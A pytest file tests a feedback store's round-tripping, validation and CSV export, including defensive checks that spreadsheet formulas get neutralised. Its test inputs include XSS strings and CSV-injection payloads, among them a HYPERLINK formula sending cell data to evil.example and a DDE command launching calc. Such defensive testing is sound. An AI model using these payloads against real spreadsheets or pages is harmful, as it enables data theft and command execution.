"""Feedback on answers: stored, listed and exported the same way on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest

from ui.storage.feedback import CSV_COLUMNS, feedback_csv, list_feedback, record_feedback

pytestmark = pytest.mark.usefixtures("database_url")

UNICODE = "Ça marche ✓ — 東京の店員 🦒, ‏שלום‏, e\u0301 (combining), ß"
HTML = '<script>alert("x")</script> <b>bold</b> &amp; &lt;kept&gt; <img src=x onerror=alert(1)>'
LONG = "A long answer, line after line.\n" * 4000  # ~128 KB: Text, not a sized column


def test_ratings_round_trip_exactly():
    before = datetime.now(UTC)
    given = [
        ("up", UNICODE, HTML, ["ritz-carlton-joshie-giraffe", "nordstrom-tire-return"], "ask"),
        ("down", HTML, LONG, [], "suggest"),
        ("up", 'a "quoted", comma\r\nand CRLF', UNICODE, ["zappos-ten-hour-call"], ""),
    ]
    returned = [record_feedback(r, q, a, ids, mode=m) for r, q, a, ids, m in given]
    stored = list_feedback()
    assert stored == returned  # what record_feedback returned is what was stored
    # Exactly as given, except that line ends are stored as "\n" (the one sanitiser).
    assert [(f.rating, f.question, f.answer, f.legend_ids, f.mode) for f in stored] == [
        (r, q.replace("\r\n", "\n"), a, ids, m) for r, q, a, ids, m in given
    ]
    assert [f.id for f in stored] == sorted({f.id for f in stored})  # oldest first, unique
    for item in stored:
        assert item.created_at.utcoffset() == timedelta(0)
        assert before - timedelta(seconds=1) <= item.created_at <= datetime.now(UTC)


def test_csv_export_round_trips_every_field():
    record_feedback("up", UNICODE, HTML, ["a-b", "c-d"], "ask")
    record_feedback("down", 'a "quoted", comma\nnew line', LONG, [], "suggest")
    rows = list(csv.reader(io.StringIO(feedback_csv(), newline="")))
    assert tuple(rows[0]) == CSV_COLUMNS
    header, body = rows[0], [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    assert len(header) == 7 and len(body) == 2
    assert body[0]["question"] == UNICODE and body[0]["answer"] == HTML  # HTML kept as text
    assert body[0]["legend_ids"] == "a-b c-d" and body[0]["mode"] == "ask"
    assert body[1]["question"] == 'a "quoted", comma\nnew line' and body[1]["answer"] == LONG
    assert body[1]["legend_ids"] == "" and body[1]["rating"] == "down"
    for row, item in zip(body, list_feedback(), strict=True):
        assert row["id"] == str(item.id)
        assert datetime.fromisoformat(row["created_at"]).utcoffset() == timedelta(0)


def test_empty_export_is_just_the_header():
    assert feedback_csv().splitlines() == [",".join(CSV_COLUMNS)]


def test_bad_ratings_and_modes_are_refused_and_nothing_is_stored():
    with pytest.raises(ValueError, match="rating must be one of up, down"):
        record_feedback("meh", "q", "a", [])
    # PostgreSQL would refuse a mode wider than its column and SQLite would keep it:
    # both refuse it before the database sees it.
    with pytest.raises(ValueError, match="mode is at most 16"):
        record_feedback("up", "q", "a", [], mode="x" * 17)
    assert list_feedback() == []
    assert record_feedback("up", "q", "a", [], mode="x" * 16).mode == "x" * 16


def test_nul_characters_are_dropped_on_both_back_ends():
    # PostgreSQL text cannot hold NUL; SQLite can. Both store the same text.
    stored = record_feedback("up", "nul\x00 here", "an\x00swer", ["a-b"])
    assert (stored.question, stored.answer) == ("nul here", "answer")
    assert [(f.question, f.answer) for f in list_feedback()] == [("nul here", "answer")]


def test_csv_export_neutralises_spreadsheet_formulas():
    # A visitor's question or an answer quoting one becomes a cell a spreadsheet would run.
    dangerous = [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\tleading tab",
    ]
    for text in dangerous:
        record_feedback("down", text, text, [], "ask")
    rows = list(csv.reader(io.StringIO(feedback_csv(), newline="")))[1:]
    for row, text in zip(rows, dangerous, strict=True):
        question, answer = row[4], row[5]
        assert question == answer == "'" + text
    record_feedback("up", "a plain question", "a = b, harmless", [], "ask")
    last = list(csv.reader(io.StringIO(feedback_csv(), newline="")))[-1]
    assert last[4] == "a plain question" and last[5] == "a = b, harmless"
